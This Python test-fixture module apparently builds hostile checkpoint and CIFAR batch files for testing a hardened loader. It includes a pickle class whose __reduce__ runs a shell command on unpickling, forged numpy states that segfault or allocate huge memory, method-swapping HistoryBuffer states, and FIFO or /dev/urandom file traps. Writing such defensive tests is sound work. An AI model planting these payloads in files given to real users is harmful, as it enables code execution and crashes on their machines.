# Copyright (c) mmekd contributors. All rights reserved.
"""Hostile checkpoint and dataset contents, built as an attacker would
build them.

Each payload is an object whose pickle, once unpickled by a loader that
trusts numpy's or mmengine's own rebuild functions, runs a shell command,
crashes the process or breaks the resumed run. ``write(path, kind, payload)``
stores one in any of the file formats a user can be handed;
``write_container_payload`` and ``write_cifar_payload`` write files that are
hostile as files (compressed records, FIFOs, devices, random bytes).
"""
import codecs
import io
import os
import pickle
import random
import struct
import zipfile

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

try:
    from numpy._core.multiarray import _reconstruct, scalar
except ImportError:  # numpy < 2
    from numpy.core.multiarray import _reconstruct, scalar


class RunsShell:
    """Unpickling this runs ``touch MARKER``."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f'touch {self.marker}', ))


class Dtype:
    """Pickles as ``numpy.dtype(name, False, True)`` with ``state``."""

    def __init__(self, name, state):
        self.name, self.state = name, state

    def __reduce__(self):
        return (np.dtype, (self.name, False, True), self.state)


class Scalar:
    """Pickles as ``numpy._core.multiarray.scalar(dtype, data)``."""

    def __init__(self, dtype, data):
        self.dtype, self.data = dtype, data

    def __reduce__(self):
        return (scalar, (self.dtype, self.data))


class Array:
    """Pickles as ``_reconstruct(ndarray, (0,), b'b')`` + ``state``."""

    def __init__(self, state):
        self.state = state

    def __reduce__(self):
        return (_reconstruct, (np.ndarray, (0, ), b'b'), self.state)


OBJECT_STATE = (3, '|', None, None, None, 8, 8, 63)  # numpy's, for 'O8'
CLEARED = (3, '|', None, None, None, 8, 8, 0)  # object flags cleared


def numpy_payloads():
    """``{name: object}``: numpy objects that must never be rebuilt."""
    f8 = np.dtype('f8').__reduce__()[2]
    return {
        # The probe's crash: object flags cleared, 8 bytes as a pointer.
        'object_scalar_cleared_flags': Scalar(Dtype('O8', CLEARED),
                                              b'AAAAAAAA'),
        'object_scalar': Scalar(Dtype('O8', OBJECT_STATE), b'AAAAAAAA'),
        'float_dtype_with_object_flags': Scalar(
            Dtype('f8', f8[:7] + (63, )), b'AAAAAAAA'),
        'object_array_cleared_flags': Array(
            (1, (2, ), Dtype('O8', CLEARED), False, b'A' * 16)),
        'absurd_shape': Array(
            (1, (2**40, 2**40), Dtype('f8', f8), False, b'A' * 8)),
        'negative_shape': Array(
            (1, (-1, ), Dtype('f8', f8), False, b'A' * 8)),
        'array_data_too_short': Array(
            (1, (1000, ), Dtype('f8', f8), False, b'A' * 8)),
        'scalar_data_too_short': Scalar(Dtype('f8', f8), b'AAA'),
        'huge_string_dtype': Scalar(
            Dtype('U99999999', (3, '<', None, None, None, 399999996, 4, 8)),
            b'A' * 8),
        'void_dtype': Scalar(
            Dtype('V8', (3, '|', None, None, None, 8, 1, 0)), b'A' * 8),
    }


def history_buffer_payloads():
    """``{name: HistoryBuffer}``: buffers whose state replaces methods."""
    override = HistoryBuffer([1.0], [1])
    override.mean = np.dtype('f8')  # the resumed logger calls mean()
    swapped = HistoryBuffer([1.0], [1])
    swapped._statistics_methods = {'mean': HistoryBuffer.max}
    return {
        'buffer_method_override': override,
        'buffer_statistics_swap': swapped,
    }


class Reduce:
    """Pickles as ``fn(*args)``, then ``__setstate__(state)`` if given."""

    def __init__(self, fn, args, state=None):
        self.fn, self.args, self.state = fn, args, state

    def __reduce__(self):
        if self.state is None:
            return (self.fn, self.args)
        return (self.fn, self.args, self.state)


def write(path, kind: str, payload) -> None:
    """Write ``{'state_dict': {}, 'meta': {}, 'payload': payload}`` as a
    torch zip file (``'zip'``), a legacy torch file (``'legacy'``) or a
    plain pickle (``'pickle'``)."""
    obj = dict(state_dict={'w': torch.zeros(1)}, meta={}, payload=payload)
    if kind == 'zip':
        torch.save(obj, path)
    elif kind == 'legacy':
        torch.save(obj, path, _use_new_zipfile_serialization=False)
    elif kind == 'pickle':
        with open(path, 'wb') as f:
            pickle.dump(obj, f, protocol=2)
    else:
        raise ValueError(kind)


def dumps(payload) -> bytes:
    buf = io.BytesIO()
    torch.save(dict(payload=payload), buf)
    return buf.getvalue()


def aliased_records(base: bytes, source: str) -> bytes:
    """``base`` (a torch zip file) rewritten so that every record named
    ``source + N`` (N >= 1) points at the bytes of ``source + '0'``: the
    file holds one storage, its records declare them all."""
    records = zipfile.ZipFile(io.BytesIO(base)).infolist()
    out, central, offsets = io.BytesIO(), [], {}
    for r in records:
        data = zipfile.ZipFile(io.BytesIO(base)).read(r)
        name = r.filename.encode()
        alias = r.filename.startswith(source) and r.filename != source + '0'
        if not alias:
            offsets[r.filename] = out.tell()
            out.write(struct.pack('<4s5H3I2H', b'PK\x03\x04', 20, 0, 0, 0,
                                  0, r.CRC, len(data), len(data), len(name),
                                  0) + name + data)
        offset = offsets[source + '0' if alias else r.filename]
        central.append(
            struct.pack('<4s6H3I5HII', b'PK\x01\x02', 20, 20, 0, 0, 0, 0,
                        r.CRC, len(data), len(data), len(name), 0, 0, 0, 0,
                        0, offset) + name)
    start = out.tell()
    out.write(b''.join(central))
    out.write(struct.pack('<4s4H2IH', b'PK\x05\x06', 0, 0, len(central),
                          len(central), out.tell() - start, start, 0))
    return out.getvalue()


def python2_pickle(obj) -> bytes:
    """``obj`` (dicts, lists, str, int, uint8 arrays) pickled as Python 2's
    cPickle wrote the CIFAR files (protocol 2, numpy 1.x): byte strings,
    ``_reconstruct(ndarray, (0,), 'b')`` and a dtype ``('u1', 0, 1)``."""
    out = [pickle.PROTO + b'\x02']

    def string(s: bytes):
        out.append(pickle.SHORT_BINSTRING + bytes([len(s)]) + s if len(s) <
                   256 else pickle.BINSTRING + struct.pack('<i', len(s)) + s)

    def integer(i: int):
        out.append(pickle.BININT + struct.pack('<i', i))

    def save(o):
        if isinstance(o, dict):
            out.append(pickle.EMPTY_DICT + pickle.MARK)
            for k, v in o.items():
                save(k)
                save(v)
            out.append(pickle.SETITEMS)
        elif isinstance(o, list):
            out.append(pickle.EMPTY_LIST + pickle.MARK)
            for v in o:
                save(v)
            out.append(pickle.APPENDS)
        elif isinstance(o, str):
            string(o.encode('latin1'))
        elif isinstance(o, int):
            integer(o)
        elif isinstance(o, np.ndarray) and o.dtype == np.uint8:
            out.append(pickle.GLOBAL + b'numpy.core.multiarray\n_reconstruct'
                       b'\n' + pickle.GLOBAL + b'numpy\nndarray\n')
            integer(0)
            out.append(pickle.TUPLE1)
            string(b'b')
            out.append(pickle.TUPLE3 + pickle.REDUCE + pickle.MARK)
            integer(1)
            out.append(pickle.MARK)
            for n in o.shape:
                integer(n)
            out.append(pickle.TUPLE + pickle.GLOBAL + b'numpy\ndtype\n')
            string(b'u1')
            integer(0)
            integer(1)
            out.append(pickle.TUPLE3 + pickle.REDUCE + pickle.MARK)
            integer(3)
            string(b'|')
            out.append(pickle.NONE * 3)
            for i in (-1, -1, 0):
                integer(i)
            out.append(pickle.TUPLE + pickle.BUILD + pickle.NEWFALSE)
            string(o.tobytes())
            out.append(pickle.TUPLE + pickle.BUILD)
        else:
            raise TypeError(type(o))

    save(obj)
    return b''.join(out) + pickle.STOP


# Files that are hostile as files, for checkpoints and CIFAR batches alike.
FILE_PAYLOADS = ('fifo', 'urandom_symlink', 'random_bytes')


def _write_file_payload(path, payload: str) -> None:
    if payload == 'fifo':
        os.mkfifo(path)
    elif payload == 'urandom_symlink':
        os.symlink('/dev/urandom', path)
    elif payload == 'random_bytes':
        with open(path, 'wb') as f:
            f.write(random.Random(0).randbytes(4096))
    else:
        raise ValueError(payload)


CONTAINER_PAYLOADS = ('compressed_record', 'zero_stride') + FILE_PAYLOADS


def write_container_payload(path, payload: str, base) -> None:
    """Write ``payload`` at ``path``: ``base`` (a checkpoint, as saved by
    torch) with its zip records deflated (``compressed_record``), ``base``
    with a tensor of 2**40 elements over 16 bytes added to its state dict
    (``zero_stride``), or one of :data:`FILE_PAYLOADS`."""
    if payload == 'compressed_record':
        with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, 'w') as dst:
            for info in src.infolist():
                dst.writestr(info.filename, src.read(info),
                             compress_type=zipfile.ZIP_DEFLATED)
    elif payload == 'zero_stride':
        ckpt = torch.load(base, weights_only=False)
        ckpt['state_dict']['zero_stride'] = torch.zeros(4).as_strided(
            (2**20, 2**20), (0, 0))
        torch.save(ckpt, path)
    else:
        _write_file_payload(path, payload)


def cifar_batch(rows: int = 2, labels_key: str = 'labels') -> dict:
    """A valid CIFAR batch: ``rows`` images, image i filled with i."""
    data = np.repeat(np.arange(rows, dtype=np.uint8), 3072).reshape(rows, -1)
    return {'batch_label': 'a batch', labels_key: list(range(rows)),
            'data': data, 'filenames': [f'{i}.png' for i in range(rows)]}


CIFAR_PAYLOADS = (
    'shell', 'object_array_cleared_flags', 'absurd_start_shape',
    'absurd_shape', 'short_rows', 'numpy_scalar_labels', 'codecs_call',
    'not_a_dict', 'truncated') + FILE_PAYLOADS


def write_cifar_payload(path, payload: str, marker) -> None:
    """Write the CIFAR batch ``payload`` at ``path``: a pickled shell
    command, numpy arrays numpy itself would crash on or allocate 256 GiB
    for, rows of the wrong length, numpy scalars, a call of
    ``_codecs.encode`` other than protocol 2's, a list, a truncated batch,
    or one of :data:`FILE_PAYLOADS`."""
    if payload in FILE_PAYLOADS:
        return _write_file_payload(path, payload)
    good = cifar_batch()
    u1 = np.dtype('u1').__reduce__()[2]
    objects = {
        'shell': dict(good, data=RunsShell(marker)),
        # The SIGSEGV: 16 file bytes cast from 'object' as pointers.
        'object_array_cleared_flags': dict(
            good, data=numpy_payloads()['object_array_cleared_flags']),
        # numpy allocates the shape _reconstruct is given: 256 GiB.
        'absurd_start_shape': dict(good, data=Reduce(
            _reconstruct, (np.ndarray, (2**38, ), b'b'),
            good['data'].__reduce__()[2])),
        'absurd_shape': dict(good, data=Array(
            (1, (2**19, 2**19), Dtype('u1', u1), False, b'A' * 16))),
        'short_rows': dict(good, data=np.zeros((40, 3000), np.uint8),
                           labels=[0] * 40),
        'numpy_scalar_labels': dict(good, labels=[np.int64(0)] * 2),
        'codecs_call': dict(good, batch_label=Reduce(
            codecs.encode, ('a batch', 'rot13'))),
        'not_a_dict': [good['data']],
        'truncated': good,
    }
    # Protocol 4, as an attacker would: protocol 2 pickles bytes through
    # _codecs.encode, which the loader refused before it read the rest.
    data = pickle.dumps(objects[payload], protocol=4)
    with open(path, 'wb') as f:
        f.write(data[:len(data) // 2] if payload == 'truncated' else data)
